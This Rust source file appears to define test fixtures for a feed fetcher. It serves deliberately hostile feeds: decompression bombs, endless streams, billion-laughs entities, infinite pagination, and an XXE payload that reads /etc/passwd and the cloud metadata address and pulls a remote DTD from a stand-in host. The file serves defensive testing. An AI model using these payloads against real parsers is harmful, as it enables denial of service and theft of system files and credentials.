//! Feeds that unpack, nest or go on without end.

use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::LazyLock;

use bytes::Bytes;

use crate::lab::exhibit::{Exhibit, ITEM};
use crate::lab::exhibits::hostile::{HARMLESS, NO_FEED, Source, forever, raw, script, with};
use crate::lab::feeds::{RSS, item, rss};
use crate::lab::http::{Answer, Asked, Reply, Step};
use crate::lab::media;

/// A feed of which a limit was met after its episode was read.
const TOO_LARGE: Exhibit = Exhibit { causes: &["feed-too-large"], verdict: "warning", ..HARMLESS };

/// A feed that holds what XML does not allow.
const MALFORMED: Exhibit = Exhibit { causes: &["feed-malformed"], ..TOO_LARGE };

/// Much more than the ratio allows in any coding.
const TAIL: usize = 24 << 20;

/// A feed with one episode and as much white space after it, packed by brotli 1.1 (quality 11,
/// window 22). Its only episode is `https://feed-bomb-br.lab.example/episode.mp3`.
const BROTLI: &[u8] = &[
    0xcb, 0xff, 0xff, 0x3f, 0x20, 0xc4, 0xda, 0x39, 0xad, 0xdf, 0xef, 0xfc, 0x47, 0x99, 0xae, 0x33, 0xcd, 0x94, 0x2c,
    0x48, 0xa8, 0xdb, 0xf2, 0x43, 0x6d, 0x67, 0x63, 0x45, 0x38, 0xc8, 0x8b, 0x16, 0x43, 0x12, 0x9b, 0x74, 0x2d, 0xd5,
    0x52, 0x8b, 0xe6, 0x2d, 0x63, 0xf4, 0xab, 0x48, 0xac, 0x6c, 0xae, 0x47, 0x8f, 0x74, 0x52, 0x00, 0xc3, 0x5a, 0xa8,
    0x70, 0xb5, 0x57, 0xa2, 0xb4, 0x2f, 0xdd, 0x96, 0x5c, 0x35, 0x6e, 0xd0, 0x5e, 0x24, 0xe7, 0x8f, 0xa3, 0x05, 0x08,
    0x4c, 0x12, 0x28, 0xa9, 0xf4, 0xc4, 0xe6, 0xc0, 0x38, 0xbb, 0x0f, 0x82, 0xe7, 0x62, 0x7a, 0x0a, 0x77, 0x4b, 0xb0,
    0xf7, 0xbc, 0x5e, 0x5c, 0xad, 0xbf, 0x29, 0x41, 0x18, 0x33, 0xc2, 0xc7, 0xbe, 0xf9, 0x8e, 0x44, 0x06, 0x75, 0xb3,
    0x7d, 0xc7, 0xd4, 0x3f, 0x8d, 0x98, 0xc5, 0xeb, 0x54, 0x23, 0x6c, 0xe2, 0x9f, 0x6f, 0xff, 0x27, 0xc2, 0xff, 0xff,
    0x3f, 0xf8, 0x25, 0x00, 0xe2, 0xb0, 0x08, 0x40, 0xf7, 0xfe, 0x8f, 0xff, 0xff, 0x7f, 0xf0, 0x4b, 0x00, 0xc4, 0x61,
    0x01, 0x80, 0xee, 0xfd, 0x5f, 0x3c, 0x03, 0xe0, 0x37, 0x52, 0x67, 0x35, 0x7b, 0x6f, 0x94, 0x3e, 0x3c, 0x73, 0xf5,
    0x22, 0xd7, 0x88, 0x54, 0x22, 0x8a, 0x60, 0x12, 0x80, 0x0c, 0x26, 0x5b, 0x67, 0xc6, 0xff, 0x8f, 0xfa, 0x00,
];

/// A good feed's start, up to where its channel ends.
fn start(asked: &Asked<'_>) -> String {
    let feed = rss("hostile", "", &item(&ITEM, 0, asked.host, asked.state.now));
    feed.split("</channel>").next().unwrap_or_default().to_owned()
}

/// A good feed with much white space after its episode.
fn padded(asked: &Asked<'_>) -> Vec<u8> {
    let mut feed = start(asked).into_bytes();
    feed.resize(feed.len() + TAIL, b' ');
    feed.extend(b"</channel></rss>");
    feed
}

/// Under `/feed.xml` a document in this coding, files elsewhere. It is packed once.
fn coded(asked: &Asked<'_>, coding: &str, made: &'static Made, pack: fn(Vec<u8>) -> Vec<u8>) -> Reply {
    if asked.path != "/feed.xml" {
        return media::serve(asked);
    }
    let packed = made.get_or_init(|| Bytes::from(pack(padded(asked))));
    Answer::status(200).with("content-encoding", coding).body(RSS, packed.clone()).into()
}

/// What was packed.
type Made = std::sync::OnceLock<Bytes>;

static DEFLATE: Made = Made::new();
static NESTED: Made = Made::new();
static CODINGS: Made = Made::new();

/// A hundred codings.
static MANY: LazyLock<String> = LazyLock::new(|| ["gzip"; 100].join(", "));

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
    // Writing to memory does not fail.
    let _ = encoder.write_all(bytes);
    encoder.finish().unwrap_or_default()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    media::gzip(bytes, flate2::Compression::fast())
}

fn brotli(asked: &Asked<'_>) -> Reply {
    if asked.path != "/feed.xml" {
        return media::serve(asked);
    }
    Answer::status(200).with("content-encoding", "br").body(RSS, BROTLI).into()
}

/// Under `/feed.xml` a feed's start, and then this without end; files elsewhere.
fn endless(asked: &Asked<'_>, once: &str, again: &str) -> Reply {
    if asked.path != "/feed.xml" {
        return media::serve(asked);
    }
    let head = format!("HTTP/1.1 200 OK\r\ncontent-type: {RSS}\r\n\r\n{}{once}", start(asked));
    script([Step::send(head), forever(again.repeat((64 << 10) / again.len().max(1)))])
}

/// A good feed with this DOCTYPE and title.
fn with_entities(asked: &Asked<'_>, entities: &str, title: &str) -> Reply {
    if asked.path != "/feed.xml" {
        return media::serve(asked);
    }
    let feed = rss(title, "", &item(&ITEM, 0, asked.host, asked.state.now));
    let feed = feed.replacen("<rss", &format!("<!DOCTYPE rss [{entities}]>\n<rss"), 1);
    Answer::status(200).body(RSS, feed).into()
}

/// Entities that stand for ten of each other, nine deep: a thousand million in all.
fn laughs(asked: &Asked<'_>) -> Reply {
    let mut entities = "<!ENTITY a0 \"laugh\">".to_owned();
    for level in 1..=9 {
        let below = format!("&a{};", level - 1).repeat(10);
        let _ = write!(entities, "<!ENTITY a{level} \"{below}\">");
    }
    with_entities(asked, &entities, "&a9;")
}

/// Entities that stand for files and for what lies on other hosts.
fn external(asked: &Asked<'_>) -> Reply {
    let entities = "<!ENTITY passwd SYSTEM \"file:///etc/passwd\">\
                    <!ENTITY data SYSTEM \"http://169.254.169.254/latest/meta-data/\">\
                    <!ENTITY % more SYSTEM \"https://external-entities.lab.example/more.dtd\"> %more;";
    with_entities(asked, entities, "&passwd;&data;")
}

/// Each page names another (RFC 5005).
fn pages(asked: &Asked<'_>) -> Reply {
    if asked.path != "/feed.xml" {
        return media::serve(asked);
    }
    let page: usize = asked.query.strip_prefix("page=").and_then(|page| page.parse().ok()).unwrap_or(0);
    let next = page.saturating_add(1);
    let next = format!("<atom:link rel=\"next\" href=\"https://{}/feed.xml?page={next}\"/>\n", asked.host);
    Answer::status(200).body(RSS, rss("pages", &next, &item(&ITEM, page % 1000, asked.host, asked.state.now))).into()
}

pub(in crate::lab::exhibits) const ALL: &[Exhibit] = &[
    Exhibit {
        name: "feed-bomb-deflate",
        what: "A feed of 24 MB packed by deflate.",
        source: Source::Urls(&["https://feed-bomb-deflate.lab.example/feed.xml"]),
        places: &[with(|asked| coded(asked, "deflate", &DEFLATE, |feed| zlib(&feed)))],
        ..TOO_LARGE
    },
    Exhibit {
        name: "feed-bomb-br",
        what: "A feed of 24 MB packed by brotli into less than 200 bytes.",
        source: Source::Urls(&["https://feed-bomb-br.lab.example/feed.xml"]),
        places: &[with(brotli)],
        ..TOO_LARGE
    },
    Exhibit {
        name: "feed-bomb-nested",
        what: "A feed of 24 MB packed twice.",
        source: Source::Urls(&["https://feed-bomb-nested.lab.example/feed.xml"]),
        places: &[with(|asked| coded(asked, "gzip, gzip", &NESTED, |feed| gzip(&gzip(&feed))))],
        ..TOO_LARGE
    },
    Exhibit {
        name: "feed-bomb-codings",
        what: "A feed is said to be packed a hundred times, and is so four times.",
        source: Source::Urls(&["https://feed-bomb-codings.lab.example/feed.xml"]),
        causes: &["feed-not-a-feed"],
        verdict: "critical",
        places: &[with(|asked| coded(asked, &MANY, &CODINGS, |feed| (0..4).fold(feed, |bytes, _| gzip(&bytes))))],
        ..NO_FEED
    },
    Exhibit {
        name: "feed-endless",
        what: "One text of the feed never ends.",
        source: Source::Urls(&["https://feed-endless.lab.example/feed.xml"]),
        places: &[raw(|asked| endless(asked, "<item><title>", "x"))],
        ..TOO_LARGE
    },
    Exhibit {
        name: "feed-depth",
        what: "The feed's elements stand in each other without end.",
        source: Source::Urls(&["https://feed-depth.lab.example/feed.xml"]),
        places: &[raw(|asked| endless(asked, "", "<a>"))],
        ..TOO_LARGE
    },
    Exhibit {
        name: "feed-attributes",
        what: "An element of the feed has attributes without end.",
        source: Source::Urls(&["https://feed-attributes.lab.example/feed.xml"]),
        places: &[raw(|asked| endless(asked, "<a", " b='c'"))],
        ..TOO_LARGE
    },
    Exhibit {
        name: "feed-items",
        what: "The feed's items never end.",
        source: Source::Urls(&["https://feed-items.lab.example/feed.xml"]),
        causes: &["enclosure-missing", "feed-too-large"],
        places: &[raw(|asked| endless(asked, "", "<item/>"))],
        ..TOO_LARGE
    },
    Exhibit {
        name: "entities",
        what: "Ten entities stand for a thousand million words.",
        source: Source::Urls(&["https://entities.lab.example/feed.xml"]),
        places: &[with(laughs)],
        ..MALFORMED
    },
    Exhibit {
        name: "external-entities",
        what: "Entities of the feed stand for files and for what lies on other hosts.",
        source: Source::Urls(&["https://external-entities.lab.example/feed.xml"]),
        places: &[with(external)],
        ..MALFORMED
    },
    Exhibit {
        name: "feed-pages",
        what: "Every page of the feed names another.",
        source: Source::Urls(&["https://feed-pages.lab.example/feed.xml"]),
        flags: &["--episodes", "all"],
        places: &[with(pages)],
        ..TOO_LARGE
    },
];
